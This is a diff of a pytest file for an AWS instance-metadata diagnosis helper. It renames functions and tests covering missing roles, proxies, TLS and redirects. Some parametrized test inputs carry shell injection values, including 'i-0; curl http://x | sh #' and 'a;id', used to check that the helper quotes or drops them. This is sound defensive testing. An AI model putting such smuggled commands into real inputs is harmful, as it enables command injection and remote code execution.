@@ -11,8 +11,8 @@ from typing import TYPE_CHECKING
 import pytest
 
 from credhelper.aws.metadata import Diagnosis, diagnose, diagnose_missing_keys, instance_region, instance_role
-from tests.conftest import NOWHERE
-from tests.contract.answering import answering, answering_by_path
+from tests.conftest import UNREACHABLE
+from tests.contract.answering import answering_by_path, serve_answer
 
 if TYPE_CHECKING:
     from contextlib import AbstractContextManager
@@ -21,18 +21,18 @@ if TYPE_CHECKING:
     from tests.instance.services import Loopback
 
 
-def endpoint(cloud: Loopback) -> str:
+def get_endpoint(cloud: Loopback) -> str:
     return cloud.environment()["AWS_EC2_METADATA_SERVICE_ENDPOINT"]
 
 
-def cause(endpoint: str) -> Diagnosis:
+def diagnose_endpoint(endpoint: str) -> Diagnosis:
     """Ask as the exchange does, when botocore then finds no keys."""
-    seen = instance_role(endpoint)
-    return seen.diagnosis or diagnose_missing_keys(endpoint, seen.name)
+    role_info = instance_role(endpoint)
+    return role_info.diagnosis or diagnose_missing_keys(endpoint, role_info.name)
 
 
 @pytest.mark.parametrize(
-    ("told", "id_", "clause", "fix"),
+    ("behaviour", "id_", "clause", "fix"),
     [
         ("off", "metadata-off", "turned off (it answers 403)", "--http-endpoint enabled"),
         ("no-role", "no-role", "no role is attached", "--instance-id i-0abcdef1234567890 --iam-instance-profile"),
@@ -44,66 +44,68 @@ def cause(endpoint: str) -> Diagnosis:
         ("fail", "metadata-failed", "answers 500", "try again"),
     ],
 )
-def test_a_cause_is_found_and_its_fix_is_named(cloud: Loopback, told: str, id_: str, clause: str, fix: str) -> None:
-    cloud.tell(metadata=told)
-    found = cause(endpoint(cloud))
-    assert found.id == id_
-    assert clause in found.reason
-    assert fix in found.fix
+def test_a_cause_is_found_and_its_fix_is_named(
+    cloud: Loopback, behaviour: str, id_: str, clause: str, fix: str
+) -> None:
+    cloud.tell(metadata=behaviour)
+    diagnosis = diagnose_endpoint(get_endpoint(cloud))
+    assert diagnosis.id == id_
+    assert clause in diagnosis.reason
+    assert fix in diagnosis.fix
 
 
-def test_a_role_is_told_by_its_instance_profile_and_its_name(cloud: Loopback) -> None:
-    arn, id_, name = instance_role(endpoint(cloud)).identity.split(" ")
+def test_a_role_is_identified_by_its_instance_profile_and_its_name(cloud: Loopback) -> None:
+    arn, id_, name = instance_role(get_endpoint(cloud)).identity.split(" ")
     assert arn.startswith("arn:aws:iam::123456789012:instance-profile/")
     assert id_.startswith("AIPA")
     assert name == "app-role"
 
 
-def test_roles_of_one_name_in_two_accounts_are_told_apart(cloud: Loopback) -> None:
-    mine = instance_role(endpoint(cloud)).identity
+def test_roles_of_one_name_in_two_accounts_are_distinguished(cloud: Loopback) -> None:
+    role = instance_role(get_endpoint(cloud)).identity
     cloud.tell(account="210987654321")
-    assert instance_role(endpoint(cloud)).identity != mine
+    assert instance_role(get_endpoint(cloud)).identity != role
 
 
-def test_no_role_is_told_as_none(cloud: Loopback) -> None:
+def test_no_role_is_reported_as_none(cloud: Loopback) -> None:
     cloud.tell(metadata="no-role")
-    assert instance_role(endpoint(cloud)).identity == "none"
+    assert instance_role(get_endpoint(cloud)).identity == "none"
 
 
-def test_where_nobody_listens_there_is_no_metadata() -> None:
-    assert "no instance metadata answers here" in cause(NOWHERE).reason
+def test_where_no_server_listens_there_is_no_metadata() -> None:
+    assert "no instance metadata answers here" in diagnose_endpoint(UNREACHABLE).reason
 
 
 def test_a_proxy_is_not_used_for_metadata(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("http_proxy", NOWHERE)
+    monkeypatch.setenv("http_proxy", UNREACHABLE)
     cloud.tell(metadata="no-role")
-    assert "no role" in cause(endpoint(cloud)).reason
+    assert "no role" in diagnose_endpoint(get_endpoint(cloud)).reason
 
 
 def test_a_proxy_that_botocore_uses_for_metadata_is_named(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("http_proxy", NOWHERE)
-    found = cause(endpoint(cloud))
-    assert found.id == "metadata-proxied"
-    assert "http_proxy sends" in found.reason
+    monkeypatch.setenv("http_proxy", UNREACHABLE)
+    diagnosis = diagnose_endpoint(get_endpoint(cloud))
+    assert diagnosis.id == "metadata-proxied"
+    assert "http_proxy sends" in diagnosis.reason
 
 
 def test_a_proxy_that_is_not_for_metadata_is_not_blamed(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("http_proxy", NOWHERE)
+    monkeypatch.setenv("http_proxy", UNREACHABLE)
     monkeypatch.setenv("no_proxy", "127.0.0.1")
-    assert cause(endpoint(cloud)).id == "metadata-failed"
+    assert diagnose_endpoint(get_endpoint(cloud)).id == "metadata-failed"
 
 
 def test_what_speaks_no_http_is_no_metadata() -> None:
     with socket.create_server(("127.0.0.1", 0)) as server:
         server.settimeout(0)  # the connection is made by the kernel, and nobody ever speaks
         port = server.getsockname()[1]
-        assert "no instance metadata" in cause(f"http://127.0.0.1:{port}").reason
+        assert "no instance metadata" in diagnose_endpoint(f"http://127.0.0.1:{port}").reason
 
 
 @pytest.mark.parametrize("page", [b"<html>\r\nplease log in\r\n</html>", b"\xff\xfe", "r\u00f6le".encode()])
-def test_what_gives_a_token_that_is_none_is_no_metadata(page: bytes) -> None:
-    with answering(page) as url:
-        assert "a token that could not be one" in cause(url).reason
+def test_what_gives_an_invalid_token_is_no_metadata(page: bytes) -> None:
+    with serve_answer(page) as url:
+        assert "a token that could not be one" in diagnose_endpoint(url).reason
 
 
 @pytest.mark.parametrize(
@@ -118,12 +120,12 @@ def test_what_gives_a_token_that_is_none_is_no_metadata(page: bytes) -> None:
         "ftp://127.0.0.1:9",
     ],
 )
-def test_an_address_that_is_none_is_asked_nothing(url: str) -> None:
-    assert "the address of instance metadata is none" in cause(url).reason
+def test_an_invalid_address_is_not_called(url: str) -> None:
+    assert "the address of instance metadata is none" in diagnose_endpoint(url).reason
 
 
 def test_a_path_that_cannot_be_written_in_a_request_leads_nowhere() -> None:
-    assert cause(f"{NOWHERE}/\u00fc\udc80").id == "no-credentials"
+    assert diagnose_endpoint(f"{UNREACHABLE}/\u00fc\udc80").id == "no-credentials"
 
 
 def test_no_tls_context_is_created_for_an_http_endpoint(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -131,7 +133,7 @@ def test_no_tls_context_is_created_for_an_http_endpoint(cloud: Loopback, monkeyp
         raise AssertionError("a TLS context was created")
 
     monkeypatch.setattr(ssl, "SSLContext", refuse)
-    assert instance_role(endpoint(cloud)).name == "app-role"
+    assert instance_role(get_endpoint(cloud)).name == "app-role"
 
 
 def test_an_https_endpoint_with_a_trusted_certificate_is_asked(
@@ -143,7 +145,7 @@ def test_an_https_endpoint_with_a_trusted_certificate_is_asked(
 
 
 def test_an_https_endpoint_with_an_untrusted_certificate_receives_nothing(impostor: Loopback) -> None:
-    assert cause(os.environ["AWS_ENDPOINT_URL"]).id == "no-credentials"
+    assert diagnose_endpoint(os.environ["AWS_ENDPOINT_URL"]).id == "no-credentials"
     assert impostor.log() == []
 
 
@@ -152,23 +154,23 @@ def test_an_address_of_another_kind_names_no_region(url: str) -> None:
     assert instance_region(url) == ""
 
 
-def test_metadata_s_token_follows_no_redirection() -> None:
-    with answering(b"evil") as other, answering(b"token", 302, Location=other) as url:
-        assert "answers 302" in cause(url).reason
+def test_the_token_of_metadata_follows_no_redirection() -> None:
+    with serve_answer(b"evil") as other, serve_answer(b"token", 302, Location=other) as url:
+        assert "answers 302" in diagnose_endpoint(url).reason
 
 
-def test_a_role_s_name_is_quoted_for_a_shell() -> None:
-    with answering({"Code": "AssumeRoleUnauthorizedAccess"}) as url:
+def test_the_name_of_a_role_is_quoted_for_a_shell() -> None:
+    with serve_answer({"Code": "AssumeRoleUnauthorizedAccess"}) as url:
         assert "--role-name 'a;id' " in diagnose_missing_keys(url, "a;id").fix
 
 
-def test_what_gives_no_token_and_knows_of_no_role_is_another_cloud_s() -> None:
-    with answering(b"", 404) as url:
-        seen = instance_role(url)
-    assert seen.identity == ""
-    assert seen.diagnosis is not None
-    assert "is not EC2's" in seen.diagnosis.reason
-    assert "associate-iam-instance-profile" not in seen.diagnosis.fix
+def test_what_gives_no_token_and_no_role_is_another_cloud() -> None:
+    with serve_answer(b"", 404) as url:
+        role_info = instance_role(url)
+    assert role_info.identity == ""
+    assert role_info.diagnosis is not None
+    assert "is not EC2's" in role_info.diagnosis.reason
+    assert "associate-iam-instance-profile" not in role_info.diagnosis.fix
 
 
 DOCUMENT = {
@@ -246,7 +248,7 @@ def test_an_instance_profile_that_is_none_is_not_kept(info: object) -> None:
 @pytest.mark.parametrize("id_", [b"hidden", b"i-0; curl http://x | sh #", b"i-0\n1", b"i-" + b"0" * 1000, b"I-0"])
 def test_an_instance_s_id_that_is_none_is_not_in_the_command(id_: bytes) -> None:
     with imds(b"", instance=id_, role_status=404) as url:
-        assert "--instance-id ID --iam" in cause(url).fix
+        assert "--instance-id ID --iam" in diagnose_endpoint(url).fix
 
 
 @pytest.mark.parametrize("name", [b"hidden secret", b"us-east-1; id", b"US", b"x" * 100, json.dumps(DOCUMENT).encode()])
@@ -257,7 +259,7 @@ def test_a_region_that_is_none_is_not_repeated(name: bytes) -> None:
 
 @pytest.mark.parametrize("code", ["hidden code", "hidden" * 50, {"hidden": 1}, "hidden\x1b[2J", "hidden\n", 1])
 def test_a_code_that_is_none_is_not_repeated(code: object) -> None:
-    with answering({"Code": code}) as url:
+    with serve_answer({"Code": code}) as url:
         found = diagnose_missing_keys(url, "app-role")
     assert "hidden" not in repr(found)
     assert "an unknown code" in found.reason
